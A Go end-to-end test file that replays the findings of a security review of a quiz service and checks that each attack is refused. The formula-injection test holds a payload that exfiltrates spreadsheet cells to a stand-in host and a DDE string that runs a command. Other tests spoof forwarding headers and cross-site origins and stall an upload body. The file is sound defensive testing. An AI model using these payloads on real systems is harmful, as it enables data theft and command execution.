package e2e_test

// One test per finding of the security review (OWASP ASVS level 2), each
// replaying the attack through the real HTTP server and showing it refused.

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/hibiken/asynq"
	"github.com/quizflow/quizflow/internal/app"
	"github.com/quizflow/quizflow/internal/client"
	"github.com/quizflow/quizflow/internal/quizflow"
)

const jsonCT = "application/json"

// Finding 1: operator rights came from matching ADMIN_EMAILS against an
// unverified address, and Unicode look-alikes matched. Now only
// `quizflow admin grant` makes an operator, and look-alikes are other
// accounts (or refused).
func TestSecurityNoOperatorTakeover(t *testing.T) {
	t.Parallel()
	s := setup(t)
	ctx := context.Background()
	c := client.New(s.url)
	// Registering the address operators use grants nothing.
	if _, err := c.Register(ctx, "admin@example.org", "first come first served", "Squatter"); err != nil {
		t.Fatal(err)
	}
	basic := func(email, pw string) int {
		code, _, _ := raw(t, "GET", s.url+"/admin/queues", "", nil, map[string]string{
			"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte(email+":"+pw))})
		return code
	}
	if code := basic("admin@example.org", "first come first served"); code != http.StatusForbidden {
		t.Fatalf("a registered but never granted account opens the queue UI: %d, want 403", code)
	}
	// Look-alikes: İ (U+0130) and the Kelvin sign no longer fold onto ASCII.
	for _, lookalike := range []string{"admİn@example.org", "\u212Aate@example.org"} {
		code, body, _ := raw(t, "POST", s.url+"/v1/auth/register", "",
			strings.NewReader(fmt.Sprintf(`{"email":%q,"password":"look alike passphrase","name":"X"}`, lookalike)), jsonHeader)
		if code != http.StatusBadRequest || !strings.Contains(body, `"field":"email"`) {
			t.Errorf("register %q = %d %s, want 400 on email", lookalike, code, body)
		}
	}
	// A grant makes an operator; a revoke takes it back at once.
	if _, err := s.app.Auth.SetOperator(ctx, "ADMIN@example.org", true); err != nil {
		t.Fatal(err)
	}
	if code := basic("admin@example.org", "first come first served"); code != http.StatusOK {
		t.Errorf("granted operator = %d, want 200", code)
	}
	if _, err := s.app.Auth.SetOperator(ctx, "admin@example.org", false); err != nil {
		t.Fatal(err)
	}
	if code := basic("admin@example.org", "first come first served"); code != http.StatusForbidden {
		t.Errorf("revoked operator = %d, want 403", code)
	}
}

// Finding 3: csv and blackboard-tsv cells starting with = + - @ were
// written as they were.
func TestSecurityNoFormulaInjection(t *testing.T) {
	t.Parallel()
	s := setup(t)
	c := s.user("Fiona")
	ctx := context.Background()
	up, err := c.UploadReader(ctx, "lesson.md", strings.NewReader("# Lesson\n\n"+loremLesson), map[string]string{"question_count": "3"})
	if err != nil {
		t.Fatal(err)
	}
	j := waitJob(t, c, up.Job.ID)
	if j.Status != quizflow.StatusSucceeded {
		t.Fatalf("job %+v", j)
	}
	q, err := c.Quiz(ctx, j.Result.QuizID)
	if err != nil {
		t.Fatal(err)
	}
	payload := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	var edited quizflow.Question
	if err := c.Do(ctx, "PATCH", "/v1/quizzes/"+q.ID+"/questions/"+q.Questions[0].ID,
		map[string]any{"prompt": payload, "explanation": "@SUM(1+1)*cmd|' /C calc'!A0"}, &edited); err != nil {
		t.Fatalf("edit question: %v", err)
	}
	for _, format := range []string{"csv", "blackboard-tsv"} {
		e := exportAndWait(t, s, c, q.ID, format)
		body, _, _ := download(t, s, c, e.ID)
		r := csv.NewReader(strings.NewReader(string(body)))
		r.FieldsPerRecord, r.LazyQuotes = -1, true
		if format == "blackboard-tsv" {
			r.Comma = '\t'
		}
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: parse: %v", format, err)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "SUM(1+1)") {
					found = true
					if !strings.HasPrefix(cell, "'") {
						t.Errorf("%s: formula cell written as is: %q", format, cell)
					}
				}
			}
		}
		if !found {
			t.Errorf("%s: the edited question is not in the file", format)
		}
	}
}

// exportAndWait requests an export and waits for its job to succeed.
func exportAndWait(t *testing.T, s *stack, c *client.Client, quizID, format string) *quizflow.Export {
	t.Helper()
	var out struct {
		Export quizflow.Export `json:"export"`
		Job    *quizflow.Job   `json:"job"`
	}
	if err := c.Do(context.Background(), "POST", "/v1/quizzes/"+quizID+"/exports", map[string]any{"format": format}, &out); err != nil {
		t.Fatalf("export %s: %v", format, err)
	}
	if j := waitJob(t, c, out.Job.ID); j.Status != quizflow.StatusSucceeded {
		t.Fatalf("export job %s: %+v", format, j)
	}
	return &out.Export
}

// Finding 4: no per-account limit, a per-replica in-memory IP limit, and
// X-Forwarded-For believed from every private address. Two API replicas
// on one Redis now share the account's budget, and rotating XFF changes
// nothing.
func TestSecurityPasswordGuessingIsLimited(t *testing.T) {
	t.Parallel()
	s := setup(t, func(o *setupOptions) {
		o.env["RATE_LIMIT_LOGIN_FAILURES"] = "5"
		o.env["RATE_LIMIT_LOGIN_WINDOW"] = "15m"
	})
	s.user("Vera")
	urls := []string{s.url, s.replica()}
	login := func(i int, pw string) (int, http.Header) {
		code, _, hdr := raw(t, "POST", urls[i%2]+"/v1/auth/login", "",
			strings.NewReader(fmt.Sprintf(`{"email":"vera@example.com","password":%q}`, pw)),
			map[string]string{"Content-Type": jsonCT, "X-Forwarded-For": fmt.Sprintf("203.0.113.%d", i)})
		return code, hdr
	}
	for i := range 5 {
		if code, _ := login(i, "guess number "+fmt.Sprint(i)); code != http.StatusUnauthorized {
			t.Fatalf("guess %d = %d, want 401", i+1, code)
		}
	}
	for i := 5; i < 7; i++ {
		code, hdr := login(i, "correct horse battery")
		if code != http.StatusTooManyRequests || hdr.Get("Retry-After") == "" {
			t.Fatalf("attempt %d after 5 failures (replica %d, new XFF) = %d Retry-After %q, want 429 with Retry-After",
				i+1, i%2, code, hdr.Get("Retry-After"))
		}
	}
	// Another account is not locked by Vera's guesses.
	s.user("Walt")
	code, _, _ := raw(t, "POST", urls[1]+"/v1/auth/login", "",
		strings.NewReader(`{"email":"walt@example.com","password":"correct horse battery"}`), jsonHeader)
	if code != http.StatusOK {
		t.Errorf("another account's login = %d, want 200", code)
	}
}

// Finding 4 (per IP): the API's per-IP limit is shared by replicas, and a
// client cannot spoof X-Forwarded-For past it when no proxy is trusted.
func TestSecurityIPLimitIsShared(t *testing.T) {
	t.Parallel()
	s := setup(t, func(o *setupOptions) { o.env["RATE_LIMIT_API_RPM"] = "10" })
	urls := []string{s.url, s.replica()}
	refused := 0
	for i := range 14 {
		code, _, hdr := raw(t, "GET", urls[i%2]+"/v1/export-formats", "", nil,
			map[string]string{"X-Forwarded-For": fmt.Sprintf("198.51.100.%d", i)})
		if code == http.StatusTooManyRequests {
			refused++
			if hdr.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
		}
	}
	if refused < 4 {
		t.Errorf("%d of 14 requests over a 10/min limit refused across two replicas, want at least 4", refused)
	}
}

// Finding 5: access tokens outlived logout and refresh-token reuse.
func TestSecurityAccessTokensEndWithTheSession(t *testing.T) {
	t.Parallel()
	s := setup(t)
	replica := s.replica()
	ctx := context.Background()
	c := client.New(s.url)
	if _, err := c.Register(ctx, "lou@example.com", "correct horse battery", "Lou"); err != nil {
		t.Fatal(err)
	}
	me := func(url, token string) int {
		code, _, _ := raw(t, "GET", url+"/v1/me", token, nil, nil)
		// The job status route checks the token without the store: it
		// must end with the session all the same.
		want := code
		if code == http.StatusOK {
			want = http.StatusNotFound
		}
		if jc, _, _ := raw(t, "GET", url+"/v1/jobs/"+quizflow.NewID("job"), token, nil, nil); jc != want {
			t.Errorf("job status with a token /v1/me answers %d for = %d, want %d", code, jc, want)
		}
		return code
	}
	login := func() *quizflow.Session {
		sess, err := client.New(s.url).Login(ctx, "lou@example.com", "correct horse battery")
		if err != nil {
			t.Fatal(err)
		}
		return sess
	}
	post := func(path, token, body string) int {
		code, _, _ := raw(t, "POST", s.url+path, token, strings.NewReader(body), jsonHeader)
		return code
	}

	// Logout.
	a := login()
	if me(replica, a.AccessToken) != http.StatusOK {
		t.Fatal("fresh token refused")
	}
	if code := post("/v1/auth/logout", "", `{"refresh_token":"`+a.RefreshToken+`"}`); code != http.StatusNoContent {
		t.Fatalf("logout = %d", code)
	}
	for _, url := range []string{s.url, replica} {
		if code := me(url, a.AccessToken); code != http.StatusUnauthorized {
			t.Errorf("access token after logout = %d at %s, want 401", code, url)
		}
	}

	// Refresh-token reuse revokes the family's access tokens too.
	b := login()
	var next quizflow.Session
	code, body, _ := raw(t, "POST", s.url+"/v1/auth/refresh", "", strings.NewReader(`{"refresh_token":"`+b.RefreshToken+`"}`), jsonHeader)
	if code != http.StatusOK || json.Unmarshal([]byte(body), &next) != nil {
		t.Fatalf("refresh = %d %s", code, body)
	}
	if code := post("/v1/auth/refresh", "", `{"refresh_token":"`+b.RefreshToken+`"}`); code != http.StatusUnauthorized {
		t.Fatalf("reuse = %d, want 401", code)
	}
	if code := me(replica, next.AccessToken); code != http.StatusUnauthorized {
		t.Errorf("access token of a family revoked by reuse = %d, want 401", code)
	}

	// Log out everywhere ends every login, the caller's included.
	c1, c2 := login(), login()
	if code := post("/v1/auth/logout-all", c1.AccessToken, ""); code != http.StatusNoContent {
		t.Fatalf("logout-all = %d", code)
	}
	for _, tok := range []string{c1.AccessToken, c2.AccessToken} {
		if code := me(replica, tok); code != http.StatusUnauthorized {
			t.Errorf("token after logout-all = %d, want 401", code)
		}
	}
	if code := post("/v1/auth/refresh", "", `{"refresh_token":"`+c2.RefreshToken+`"}`); code != http.StatusUnauthorized {
		t.Errorf("refresh after logout-all = %d, want 401", code)
	}

	// A password change ends the other logins and hands back a new one.
	d1, d2 := login(), login()
	var fresh quizflow.Session
	code, body, _ = raw(t, "PATCH", s.url+"/v1/me/password", d1.AccessToken,
		strings.NewReader(`{"current_password":"correct horse battery","new_password":"a brand new long passphrase"}`), jsonHeader)
	if code != http.StatusOK || json.Unmarshal([]byte(body), &fresh) != nil {
		t.Fatalf("change password = %d %s", code, body)
	}
	if code := me(replica, d2.AccessToken); code != http.StatusUnauthorized {
		t.Errorf("another session after a password change = %d, want 401", code)
	}
	if code := me(replica, fresh.AccessToken); code != http.StatusOK {
		t.Errorf("the session the change returned = %d, want 200", code)
	}
	if _, err := client.New(s.url).Login(ctx, "lou@example.com", "correct horse battery"); err == nil {
		t.Error("the old password still logs in")
	}
}

// API keys act as their owner within their scopes and die when deleted.
func TestSecurityAPIKeys(t *testing.T) {
	t.Parallel()
	s := setup(t)
	c := s.user("Kim")
	other := s.user("Lee")
	ctx := context.Background()
	var readKey, writeKey quizflow.NewAPIKey
	if err := c.Do(ctx, "POST", "/v1/api-keys", map[string]any{"name": "grader", "scopes": []string{"read"}}, &readKey); err != nil {
		t.Fatal(err)
	}
	if err := c.Do(ctx, "POST", "/v1/api-keys", map[string]any{"name": "sync", "scopes": []string{"read", "write"}}, &writeKey); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(readKey.Key, "qf_") {
		t.Fatalf("key %q", readKey.Key)
	}
	// Stored as a hash: the secret is nowhere in the database.
	n, err := s.app.Store.Database().Collection("api_keys").CountDocuments(ctx, map[string]any{"hash": readKey.Key})
	if err != nil || n != 0 {
		t.Errorf("secret found stored in clear: %d %v", n, err)
	}
	if code, body, _ := raw(t, "GET", s.url+"/v1/me", readKey.Key, nil, nil); code != http.StatusOK || !strings.Contains(body, "kim@example.com") {
		t.Errorf("read key GET /v1/me = %d %s", code, body)
	}
	if code, _, _ := raw(t, "GET", s.url+"/v1/api-keys", readKey.Key, nil, nil); code != http.StatusForbidden {
		t.Errorf("a key listing keys = %d, want 403", code)
	}
	up := strings.NewReader("# Notes\n\n" + loremLesson)
	keyed := client.New(s.url)
	keyed.Token = readKey.Key
	if _, err := keyed.UploadReader(ctx, "n.md", up, nil); err == nil || !strings.Contains(err.Error(), "403") {
		t.Errorf("read key upload: %v, want 403", err)
	}
	keyed.Token = writeKey.Key
	if _, err := keyed.UploadReader(ctx, "n.md", strings.NewReader("# Notes\n\n"+loremLesson), nil); err != nil {
		t.Errorf("write key upload: %v", err)
	}
	// Another user cannot delete Kim's key; Kim can, and it dies at once.
	if code, _, _ := raw(t, "DELETE", s.url+"/v1/api-keys/"+readKey.ID, other.Token, nil, nil); code != http.StatusNotFound {
		t.Errorf("another user's delete = %d, want 404", code)
	}
	if code, _, _ := raw(t, "DELETE", s.url+"/v1/api-keys/"+readKey.ID, c.Token, nil, nil); code != http.StatusNoContent {
		t.Errorf("delete = %d, want 204", code)
	}
	if code, _, _ := raw(t, "GET", s.url+"/v1/me", readKey.Key, nil, nil); code != http.StatusUnauthorized {
		t.Errorf("deleted key = %d, want 401", code)
	}
	// An expired key is refused.
	soon := time.Now().Add(1500 * time.Millisecond)
	var short quizflow.NewAPIKey
	if err := c.Do(ctx, "POST", "/v1/api-keys", map[string]any{"name": "short", "scopes": []string{"read"}, "expires_at": soon}, &short); err != nil {
		t.Fatal(err)
	}
	eventually(t, 10*time.Second, func() (bool, string) {
		code, _, _ := raw(t, "GET", s.url+"/v1/me", short.Key, nil, nil)
		return code == http.StatusUnauthorized, fmt.Sprintf("expired key answers %d", code)
	})
}

// Finding 7: 8 bytes were enough (three emoji passed), common passwords
// passed, and 37 accented letters were refused by bcrypt's 72-byte cap.
func TestSecurityPasswordPolicy(t *testing.T) {
	t.Parallel()
	s := setup(t)
	register := func(email, pw string) (int, string) {
		b, _ := json.Marshal(map[string]string{"email": email, "password": pw, "name": "P"})
		code, body, _ := raw(t, "POST", s.url+"/v1/auth/register", "", strings.NewReader(string(b)), jsonHeader)
		return code, body
	}
	for _, weak := range []string{"😀😀😀", "password", "12345678", "password1234", "qwerty123456"} {
		if code, body := register("weak@example.com", weak); code != http.StatusBadRequest || !strings.Contains(body, `"field":"password"`) {
			t.Errorf("password %q = %d %s, want 400 on password", weak, code, body)
		}
	}
	long := "àáâãäåæçèéêëìíîïðñòóôõöøùúûüýþÿāăąćĉċčď" // 37 accented letters, 74 bytes
	if code, body := register("accent@example.com", long); code != http.StatusCreated {
		t.Fatalf("37 accented letters = %d %s, want 201", code, body)
	}
	if _, err := client.New(s.url).Login(context.Background(), "accent@example.com", long); err != nil {
		t.Errorf("login with the long password: %v", err)
	}
	// Same first 72 bytes, different after: not the same password.
	if _, err := client.New(s.url).Login(context.Background(), "accent@example.com", long[:72]+"zz"); err == nil {
		t.Error("a password sharing the first 72 bytes logs in")
	}
}

// Finding 10: registration told which addresses have accounts, with only
// a per-replica limit; login must answer unknown and wrong alike.
func TestSecurityEnumerationIsSlowed(t *testing.T) {
	t.Parallel()
	s := setup(t)
	s.user("Known")
	wrong, _, _ := raw(t, "POST", s.url+"/v1/auth/login", "", strings.NewReader(`{"email":"known@example.com","password":"not the password"}`), jsonHeader)
	_, wrongBody, _ := raw(t, "POST", s.url+"/v1/auth/login", "", strings.NewReader(`{"email":"known@example.com","password":"not the password"}`), jsonHeader)
	unknown, unknownBody, _ := raw(t, "POST", s.url+"/v1/auth/login", "", strings.NewReader(`{"email":"nobody@example.com","password":"not the password"}`), jsonHeader)
	msg := func(b string) string { i := strings.Index(b, `"request_id"`); return b[:max(i, 0)] }
	if wrong != unknown || msg(wrongBody) != msg(unknownBody) {
		t.Errorf("login tells accounts apart: %d %s vs %d %s", wrong, wrongBody, unknown, unknownBody)
	}
	// Registration probes from one address run into the shared limit.
	urls := []string{s.url, s.replica()}
	limited := false
	for i := range 40 {
		b := fmt.Sprintf(`{"email":"probe%d@example.com","password":"a long enough passphrase","name":"P"}`, i)
		code, _, hdr := raw(t, "POST", urls[i%2]+"/v1/auth/register", "", strings.NewReader(b), jsonHeader)
		if code == http.StatusTooManyRequests {
			limited = hdr.Get("Retry-After") != ""
			break
		}
	}
	if !limited {
		t.Error("40 registrations from one address across two replicas were never limited")
	}
}

// Finding 2: a cross-site form POST carrying cached Basic credentials (or
// the cookie) paused a queue. Changes now need the same origin and the
// signed session cookie.
func TestSecurityQueueUIRefusesCrossSiteWrites(t *testing.T) {
	t.Parallel()
	s := setup(t)
	s.operator(adminEmail, "operator password")
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte(adminEmail+":operator password"))
	pause := s.url + "/admin/queues/api/queues/extract:pause"
	post := func(h map[string]string) int {
		code, _, _ := raw(t, "POST", pause, "", nil, h)
		return code
	}
	// Sign in as a browser does: GET with Basic sets the cookie.
	code, _, hdr := raw(t, "GET", s.url+"/admin/queues", "", nil, map[string]string{"Authorization": basic})
	cookie := hdr.Get("Set-Cookie")
	if code != http.StatusOK || cookie == "" {
		t.Fatalf("sign in = %d, cookie %q", code, cookie)
	}
	cookie = strings.SplitN(cookie, ";", 2)[0]
	evil := "https://evil.example"
	for name, h := range map[string]map[string]string{
		"cross-site with Basic":             {"Authorization": basic, "Origin": evil, "Sec-Fetch-Site": "cross-site"},
		"cross-site with the cookie":        {"Cookie": cookie, "Origin": evil, "Sec-Fetch-Site": "cross-site"},
		"no origin at all, with the cookie": {"Cookie": cookie},
		"same origin with Basic only":       {"Authorization": basic, "Sec-Fetch-Site": "same-origin"},
	} {
		if code := post(h); code != http.StatusForbidden {
			t.Errorf("%s: pause = %d, want 403", name, code)
		}
	}
	insp := asynq.NewInspector(s.app.RedisOpt)
	defer insp.Close()
	// The queue exists once a task was queued in it.
	if _, err := s.user("Queuer").UploadReader(context.Background(), "q.md", strings.NewReader("# Q\n\n"+loremLesson), nil); err != nil {
		t.Fatal(err)
	}
	isPaused := func() bool {
		qi, err := insp.GetQueueInfo("extract")
		return err == nil && qi.Paused
	}
	if isPaused() {
		t.Fatal("a refused request paused the queue")
	}
	if code := post(map[string]string{"Cookie": cookie, "Sec-Fetch-Site": "same-origin", "Origin": s.url}); code >= 400 {
		t.Errorf("same-origin pause with the cookie = %d, want it to reach the UI", code)
	}
	if !isPaused() {
		t.Error("the same-origin pause with the cookie did not pause the queue (so the refusals above prove nothing)")
	}
}

// Finding 6: bodies trickling a byte at a time held connections open
// indefinitely. Now a stalled upload ends with 408 and leaves nothing.
func TestSecuritySlowBodiesAreCutOff(t *testing.T) {
	t.Parallel()
	s := setup(t)
	c := s.user("Slow")
	host := strings.TrimPrefix(s.url, "http://")
	conn, err := net.Dial("tcp", host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	head := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"slow.md\"\r\nContent-Type: text/markdown\r\n\r\n# Slow\n\n"
	fmt.Fprintf(conn, "POST /v1/documents HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n%s", host, c.Token, head)
	start := time.Now()
	_ = conn.SetReadDeadline(time.Now().Add(time.Minute))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("no answer to a stalled upload: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestTimeout || !resp.Close {
		t.Errorf("stalled upload = %d (close %v), want 408 and the connection closed", resp.StatusCode, resp.Close)
	}
	if waited := time.Since(start); waited > 30*time.Second {
		t.Errorf("cut off after %v", waited)
	}
	var docs struct {
		Documents []quizflow.Document `json:"documents"`
	}
	if err := c.Do(context.Background(), "GET", "/v1/documents", nil, &docs); err != nil || len(docs.Documents) != 0 {
		t.Errorf("documents after a cut upload: %v %v", docs.Documents, err)
	}
}

// Finding 8: production started with CORS_ORIGIN=*, rate limits off, an
// open /metrics, 100-day access tokens and a secret of one letter.
func TestSecurityProductionRefusesWeakSettings(t *testing.T) {
	t.Parallel()
	good := map[string]string{
		"APP_ENV": "production", "JWT_ACCESS_SECRET": "9f2c6e1b7a4d8e3f0c5b2a7d9e1f4c6b8a3d5e7f9c1b", "JWT_REFRESH_SECRET": "1e8d4b7f2a9c6e3d0b5f8a1c7e4d2b9f6a3c8e5d7b0f",
		"METRICS_TOKEN": "c4a8e2f6b0d3a7e1f5c9b2d6a0e4f8c3b7d1a5e9f2c6", "CORS_ORIGIN": "https://app.example.com",
	}
	for name, bad := range map[string]map[string]string{
		"wildcard CORS":       {"CORS_ORIGIN": "*"},
		"rate limits off":     {"RATE_LIMIT_API_RPM": "off"},
		"open /metrics":       {"METRICS_TOKEN": ""},
		"100-day access":      {"JWT_ACCESS_EXPIRES": "2400h"},
		"one-letter secret":   {"JWT_ACCESS_SECRET": strings.Repeat("a", 32)},
		"login limit off":     {"RATE_LIMIT_LOGIN_FAILURES": "off"},
		"everyone is a proxy": {"TRUSTED_PROXIES": "0.0.0.0/0"},
	} {
		env := maps.Clone(good)
		maps.Copy(env, bad)
		var key string
		for k := range bad {
			key = k
		}
		err := app.Run(context.Background(), app.RoleAPI, func(k string) string { return env[k] }, io.Discard)
		if err == nil || !strings.Contains(err.Error(), key) {
			t.Errorf("%s: start = %v, want a refusal naming %s", name, err, key)
		}
	}
}

// Finding 9: no CSP, no HSTS behind TLS, no no-store on token answers.
func TestSecurityHeaders(t *testing.T) {
	t.Parallel()
	s := setup(t, func(o *setupOptions) { o.env["TRUSTED_PROXIES"] = "127.0.0.1/32,::1/128" })
	code, _, hdr := raw(t, "POST", s.url+"/v1/auth/register", "",
		strings.NewReader(`{"email":"hdr@example.com","password":"correct horse battery","name":"H"}`), jsonHeader)
	if code != http.StatusCreated {
		t.Fatalf("register = %d", code)
	}
	if cc := hdr.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("token answer Cache-Control = %q, want no-store", cc)
	}
	if csp := hdr.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
		t.Errorf("API CSP = %q", csp)
	}
	if h := hdr.Get("Strict-Transport-Security"); h != "" {
		t.Errorf("HSTS over plain HTTP: %q", h)
	}
	_, _, hdr = raw(t, "GET", s.url+"/healthz", "", nil, map[string]string{"X-Forwarded-Proto": "https"})
	if h := hdr.Get("Strict-Transport-Security"); !strings.Contains(h, "max-age=") {
		t.Errorf("HSTS behind a trusted TLS proxy = %q", h)
	}
	_, _, hdr = raw(t, "GET", s.url+"/admin/queues", "", nil, nil)
	if csp := hdr.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") {
		t.Errorf("queue UI CSP = %q", csp)
	}
}
